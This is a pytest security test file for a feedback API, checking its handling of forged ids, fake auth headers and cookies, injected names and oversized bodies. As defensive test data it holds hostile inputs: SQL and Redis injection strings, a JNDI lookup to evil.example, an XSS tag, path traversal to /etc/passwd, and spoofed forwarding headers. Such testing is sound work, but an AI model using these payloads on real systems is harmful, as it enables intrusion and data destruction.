"""Feedback: ids that are forged, foreign or of another kind; keys and cookies that are made up; names that inject."""

from __future__ import annotations

import base64
import json
import time
from typing import Any

import pytest

from feedback.ids import Secrets, mint_comparison, mint_response, subject_of
from tests.attacks.serving import ADMIN, CANARY, GOOD, Answer, Served, least_seconds, slowness

GONE = (404, None, "response_not_found")
ROUTES: list[tuple[str, str, dict[str, Any] | None]] = [
    ("POST", "/v1/feedback", {"response_id": "{id}", "rating": "up"}),
    ("POST", "/v1/labels", {"response_id": "{id}", "labels": {"tone": 1}}),
    ("POST", "/v1/reports", {"response_id": "{id}", "kind": "unsafe"}),
    ("POST", "/v1/comparisons", {"comparison_id": "{id}", "preferred": 0}),
    ("POST", "/v1/comparisons", {"ranking": [["{id}"], ["{other}"]]}),
    ("GET", "/v1/feedback/{id}", None),
    ("DELETE", "/v1/feedback/{id}", None),
]


def turned(signed: str, byte: int) -> str:
    """The id with one bit of one byte turned."""
    kind, _, text = signed.partition("-")
    data = bytearray(base64.urlsafe_b64decode(text))
    data[byte] ^= 1
    return f"{kind}-{base64.urlsafe_b64encode(data).decode()}"


def ids(served: Served) -> dict[str, str]:
    """Kind of forgery → id. All are of the end user who asks, but for one."""
    mine, pair = served.chat().json["id"], served.ask("POST", "/v1/chat/comparisons", GOOD).json["id"]
    return {
        "another nonce": turned(mine, 0),
        "another time": turned(mine, 13),
        "another flag": turned(mine, 16),
        "another signature": turned(mine, 32),
        "no signature": mine[:-16],
        "a longer one": mine + "AAAA",
        "padding": mine + "=",
        "another prefix": mine.replace("chatcmpl-", "chatcmpl_"),
        "no prefix": mine.removeprefix("chatcmpl-"),
        "a response under a comparison's prefix": mine.replace("chatcmpl-", "cmpr-"),
        "a comparison under a response's prefix": pair.replace("cmpr-", "chatcmpl-"),
        "somebody else's": served.chat(user="mallory").json["id"],
        "zeros": "chatcmpl-" + "A" * 44,
        "a guess": "chatcmpl-1",
        "an injection": "chatcmpl-' OR '1'='1",
        "a pattern": "chatcmpl-*",
        "a path": "chatcmpl-..%2f..%2fetc",
        "beyond ASCII": "chatcmpl-" + "é" * 44,
        "a line break": mine + "\n",
    }


FORGERIES = [
    "another nonce", "another time", "another flag", "another signature", "no signature", "a longer one", "padding",
    "another prefix", "no prefix", "a response under a comparison's prefix", "a comparison under a response's prefix",
    "somebody else's", "zeros", "a guess", "an injection", "a pattern", "beyond ASCII", "a line break",
]  # fmt: skip


@pytest.mark.parametrize("kind", FORGERIES)
def test_an_id_that_is_not_mine_is_the_same_404_on_every_route(served: Served, kind: str) -> None:
    forged, other = ids(served)[kind], served.chat().json["id"]
    with served.untouched():
        for method, path, body in ROUTES:
            told = json.dumps(body).replace('"{id}"', json.dumps(forged)).replace("{other}", other)
            spelt = path.replace("{id}", "".join(f"%{byte:02x}" for byte in forged.encode()))
            answer = served.ask(method, spelt, None if body is None else told.encode())
            assert answer.error == GONE, (method, path)
            assert answer.json["error"]["message"] == "there is no such response"


def test_a_response_is_no_comparison_and_a_comparison_is_no_response(served: Served) -> None:
    mine, pair = served.chat().json["id"], served.ask("POST", "/v1/chat/comparisons", GOOD).json["id"]
    for path, body in (
        ("/v1/feedback", {"response_id": pair, "rating": "up"}),
        ("/v1/labels", {"response_id": pair, "labels": {"tone": 1}}),
        ("/v1/comparisons", {"comparison_id": mine, "preferred": 0}),
    ):
        assert served.ask("POST", path, body).error == GONE


def test_anothers_response_in_a_ranking_is_gone_and_changes_nothing(served: Served) -> None:
    mine, theirs = served.chat().json["id"], served.chat(user="mallory").json["id"]
    assert served.ask("POST", "/v1/comparisons", {"ranking": [[mine], [theirs]]}).error == GONE
    assert served.ask("GET", f"/v1/feedback/{mine}").error == (404, None, "feedback_not_found")


def test_an_idempotency_key_is_bound_to_its_user_its_address_and_its_words(served: Served) -> None:
    mine = served.chat(user="ann").json["id"]
    theirs = served.chat(user="bob").json["id"]
    key = "Idempotency-Key: one\r\n"

    def vote(one: str, user: str, rating: str = "up", headers: str = key) -> Answer:
        body = {"response_id": one, "rating": rating, "user": user}
        return served.ask("POST", "/v1/feedback", body, headers=headers)

    assert vote(mine, "ann").status == 201
    assert vote(mine, "ann").status == 200
    assert vote(theirs, "bob").status == 201, "the same key of another user is another key"
    assert vote(mine, "ann", "down").error == (409, None, "idempotency_key_reused")
    for wrong in ("Idempotency-Key: \r\n", f"Idempotency-Key: {'k' * 256}\r\n"):
        assert vote(mine, "ann", headers=wrong).error == (400, "Idempotency-Key", "invalid_value")
    for odd in ("*", "'; FLUSHALL", "../..", "{}", '"} 1', "\xff\xfe", "a\tb"):
        assert vote(mine, "ann", headers=f"Idempotency-Key: {odd}\r\n").status in {200, 201}


@pytest.mark.parametrize(
    "header",
    [
        "", "Authorization: Bearer \r\n", "Authorization: Bearer wrong\r\n", "Authorization: Bearer ' OR 1=1 --\r\n",
        "Authorization: Bearer *\r\n", f"Authorization: Basic {ADMIN}\r\n", f"Authorization: {ADMIN}\r\n",
        f"Authorization: Bearer {ADMIN[:-1]}\r\n", f"Authorization: Bearer {ADMIN}0\r\n",
        f"Authorization: Bearer {ADMIN.upper()}\r\n", f"Authorization: Bearer {ADMIN},{ADMIN}\r\n",
        "Authorization: Bearer \xff\xfe\r\n", "Authorization: Bearer " + "k" * 60_000 + "\r\n",
        f"X-Api-Key: {ADMIN}\r\n", f"Api-Key: {ADMIN}\r\n", f"Cookie: Authorization=Bearer {ADMIN}\r\n",
        f"Authorization_: Bearer {ADMIN}\r\n", "X-Forwarded-For: 127.0.0.1\r\n", "Forwarded: for=127.0.0.1\r\n",
        "X-Original-URL: /healthz\r\n", "X-Rewrite-URL: /healthz\r\n", "X-HTTP-Method-Override: GET\r\n",
        "Host-Override: localhost\r\n",
    ],
    ids=range(23),
)  # fmt: skip
def test_without_the_key_nothing_is_served_and_nothing_is_looked_up(served: Served, header: str) -> None:
    before = len(served.engine.seen)
    for method, path, body in (
        ("POST", "/v1/chat/completions", GOOD),
        ("GET", "/v1/models", None),
        ("GET", "/v1/me", None),
        ("GET", "/v1/feedback/export", None),
        ("POST", "/v1/aliases", {"name": "evil"}),
        ("POST", "/v1/rollback", {}),
        ("DELETE", "/v1/me", None),
    ):
        status, field, code = served.ask(method, path, body, headers=header, port=served.keyed).error
        assert (status, field) == (401, None), path
        assert code in {"missing_api_key", "invalid_api_key"}
    assert len(served.engine.seen) == before
    good = f"Authorization: Bearer {ADMIN}\r\n"
    assert served.ask("POST", "/v1/chat/completions", GOOD, headers=good, port=served.keyed).status == 200


def test_with_a_key_the_body_is_read_after_the_key(served: Served) -> None:
    answer = served.ask("POST", "/v1/chat/completions", b"[" * 10_000, port=served.keyed)
    assert answer.error == (401, None, "missing_api_key")


COOKIES = [
    "heed_user=admin", "heed_user=../../etc", "heed_user=' OR 1=1", "heed_user=a; heed_user=b", 'heed_user="x\\073"',
    "heed_user=s-000000000000000000000000", "heed_user==", "$Version=1; heed_user=x; $Path=/", "heed_user=\xff",
    "; ; ;", "__Host-heed_user=x",
]  # fmt: skip


def test_a_made_up_cookie_is_nobody_elses(served: Served) -> None:
    someone = served.ask("GET", "/v1/me", headers="Cookie: heed_user=Zm9vYmFyYmF6cXV4YWJj\r\n").json[
        "subject"
    ]
    for cookie in COOKIES:
        answer = served.ask("GET", "/v1/me", headers=f"Cookie: {cookie}\r\n")
        assert answer.status == 200
        assert answer.json["subject"] != someone
        assert cookie.encode("latin-1") not in answer.body


INJECTIONS = [
    "' OR 1=1 --", "\r\nFLUSHALL\r\n", "*3\r\n$3\r\nSET\r\n", "{user}:*", "subject:*", '"} 1\nheed_votes_total{a="',
    "../../etc/passwd", "\0", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "__proto__",
    "s-000000000000000000000000", "user:bob", "user:bob\0", "\u202ebob", "bob\u200b", "ｂｏｂ", "%62ob", CANARY,
]  # fmt: skip


@pytest.mark.parametrize("name", INJECTIONS)
def test_an_identifier_is_only_ever_hashed(served: Served, name: str) -> None:
    one = served.chat(user=name)
    assert one.status == 200
    vote = {"response_id": one.json["id"], "rating": "up", "comment": name, "reasons": [name[:64]]}
    assert served.ask("POST", "/v1/feedback", {**vote, "user": "bob"}).error == GONE
    assert served.ask("POST", "/v1/feedback", {**vote, "user": name}).status == 201
    assert name.encode() not in one.raw
    assert name not in json.dumps(served.engine.bodies[-1])
    assert name not in json.dumps(served.engine.headers[-1])


NAMES = [
    "..",
    "a/b",
    "a b",
    "A",
    "",
    "a" * 65,
    "-a",
    "a\n",
    "a:b",
    "é",
    "*",
    "a\0",
    "'--",
    "{a}",
    '"',
    "a\r\nb",
]
ARMS = [{"name": "a", "share": 0.5}, {"name": "b", "share": 0.5}]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_could_be_something_else_is_none(served: Served, name: str) -> None:
    for path, body, field in (
        ("aliases", {"name": name}, "name"),
        ("experiments", {"name": name, "arms": ARMS}, "name"),
        ("experiments", {"name": "x", "alias": name, "arms": ARMS}, "alias"),
        ("experiments", {"name": "x", "arms": [ARMS[0], {**ARMS[1], "name": name}]}, "arms.1.name"),
        ("loop/train", {"alias": name}, "alias"),
        ("loop/cancel", {"alias": name}, "alias"),
    ):
        assert served.ask("POST", f"/v1/{path}", body).error == (422, field, "invalid_value")
    criterion = served.ask("PATCH", "/v1/aliases/heed", {"criteria": {name: 1}})
    assert (criterion.status, criterion.json["error"]["param"][:8]) == (422, "criteria")


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("feedback", '{"response_id":"x","rating":"up","comment":"\\ud800"}', "comment"),
        ("feedback", '{"response_id":"x","rating":"up","\\ud800":1}', "body"),
        ("feedback", '{"response_id":"\\ud800","rating":"up"}', "response_id"),
        ("labels", '{"response_id":"x","labels":{"\\ud800":1}}', None),
        ("aliases", '{"name":"x","guidelines":"\\udfff"}', "guidelines"),
        ("adapters", '{"path":"\\ud800"}', "path"),
        (
            "experiments",
            json.dumps({"name": "e", "arms": [ARMS[0], {**ARMS[1], "sampling": {"\ud800": 1}}]}),
            "arms.sampling.?",
        ),
        ("feedback", '{"' + "k" * 900_000 + '":1,"response_id":"x","rating":"up"}', "k" * 100),
        ("feedback", '{"response_id":"x","rating":"up","comment":"' + "c" * 4001 + '"}', "comment"),
        ("feedback", '{"response_id":"x","rating":"up","correction":"' + "c" * 32_001 + '"}', "correction"),
        ("feedback", '{"response_id":"' + "r" * 513 + '","rating":"up"}', "response_id"),
        ("feedback", '{"response_id":"x","rating":"up","reasons":' + json.dumps(["r"] * 17) + "}", "reasons"),
        ("comparisons", '{"comparison_id":"x","preferred":true}', "preferred"),
        ("comparisons", '{"comparison_id":"x","preferred":2}', "preferred"),
        ("comparisons", '{"ranking":' + json.dumps([["x"]] * 17) + "}", "ranking"),
        ("comparisons", '{"ranking":' + json.dumps([["x"] * 100_000]) + "}", "ranking.0"),
        ("adapters", '{"path":"/etc/passwd"}', "path"),
        ("adapters", '{"path":"../../../etc"}', "path"),
        ("adapters", '{"path":"http://evil.example/adapter"}', "path"),
        ("adapters", '{"path":"\\\\\\\\evil.example\\\\share"}', "path"),
        ("adapters", '{"path":"/proc/self/root/etc"}', "path"),
    ],
    ids=range(21),
)  # fmt: skip
def test_what_cannot_be_kept_is_named(served: Served, path: str, body: str, field: str | None) -> None:
    with served.untouched():
        status, named, _ = served.ask("POST", f"/v1/{path}", body.encode()).error
    assert status == 422
    assert field in {None, named}


MANY = json.dumps({f"K{n}": -2 for n in range(60_000)})


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        ("POST", "feedback", '{"response_id":"x","rating":"up",' + MANY[1:], "body"),
        ("POST", "labels", '{"response_id":"x","labels":' + MANY + "}", "labels"),
        ("POST", "comparisons", '{"ranking":[' + json.dumps([1] * 250_000) + "]}", "ranking.0"),
        ("POST", "comparisons", '{"ranking":' + json.dumps([[]] * 250_000) + "}", "ranking"),
        (
            "POST",
            "feedback",
            '{"response_id":"x","rating":"up","reasons":' + json.dumps([1] * 250_000) + "}",
            "reasons",
        ),
        ("PATCH", "aliases/heed", '{"criteria":' + MANY + "}", "criteria"),
        ("PATCH", "aliases/heed", '{"thresholds":' + MANY + "}", "thresholds"),
        ("PATCH", "experiments/x", '{"shares":' + MANY + "}", "shares"),
        ("POST", "experiments", '{"name":"x","arms":' + json.dumps([{}] * 250_000) + "}", "arms"),
    ],
    ids=range(9),
)
def test_a_great_many_of_anything_is_refused_before_each_is_looked_at(
    served: Served, method: str, path: str, body: str, field: str
) -> None:
    def ask() -> None:
        assert served.ask(method, f"/v1/{path}", body.encode()).error == (422, field, "invalid_value")

    assert least_seconds(ask) < 0.8 * slowness(), "everybody else waits for as long"


def test_an_id_past_its_life_is_410_and_one_that_was_not_stored_409_on_every_route(served: Served) -> None:
    secrets = Secrets.load(served.folder / "secret")
    me = subject_of(secrets, "local", "key:")
    old = time.time() - 31 * 86400
    gone, fresh = mint_response(secrets, me, now=old), served.chat().json["id"]
    unstored = served.chat(store=False).json["id"]
    for one, status, code in ((gone, 410, "response_expired"), (unstored, 409, "response_not_stored")):
        for _, path, body in ROUTES[:3]:
            told = {**body, "response_id": one} if body else None
            assert served.ask("POST", path, told).error == (status, None, code)
        ranking = {"ranking": [[one], [fresh]]}
        assert served.ask("POST", "/v1/comparisons", ranking).error == (status, None, code)
    pair = mint_comparison(secrets, me, now=old)
    answer = served.ask("POST", "/v1/comparisons", {"comparison_id": pair, "preferred": 1})
    assert answer.error == (410, None, "response_expired")
    assert served.ask("GET", f"/v1/feedback/{gone}").error == (404, None, "feedback_not_found")
